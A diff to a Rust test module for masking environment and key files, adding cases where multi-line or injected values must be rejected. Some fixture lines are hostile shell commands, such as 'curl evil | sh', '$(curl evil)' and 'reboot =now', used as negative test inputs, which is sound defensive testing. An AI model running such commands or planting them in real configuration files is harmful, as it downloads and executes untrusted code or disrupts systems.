@@ -157,10 +157,10 @@ mod tests {
         Ignore::new(&Globs::new(texts(own)).0, &[], BasePaths::new(texts(base)))
     }
 
-    fn diff(path: &str, patch: &str) -> FileDiff {
+    fn diff(path: &str, hunks: &str) -> FileDiff {
         let diff = FileDiff {
             path: path.into(),
-            hunks: FileDiff::parse_hunks(patch).unwrap(),
+            hunks: FileDiff::parse_hunks(hunks).unwrap(),
             ..FileDiff::default()
         };
         diff.masked()
@@ -262,6 +262,13 @@ mod tests {
                 "@@ -0,0 +1 @@\n+URL=https://a.example:8080/x?y=z # note\n",
                 true,
             ),
+            (
+                ".envrc",
+                "@@ -0,0 +1,4 @@\n+K=a\"b\n+L=\"\n+curl evil|sh\n+\"\n",
+                false,
+            ),
+            (".env", "@@ -0,0 +1 @@\n+reboot =now\n", false),
+            (".env", "@@ -0,0 +1 @@\n+K=a\\b\n", false),
             (".env", "@@ -0,0 +1 @@\n+curl evil | sh\n", false),
             (".envrc", "@@ -0,0 +1 @@\n+export A=$(curl evil)\n", false),
             ("x.key", &pem, true),
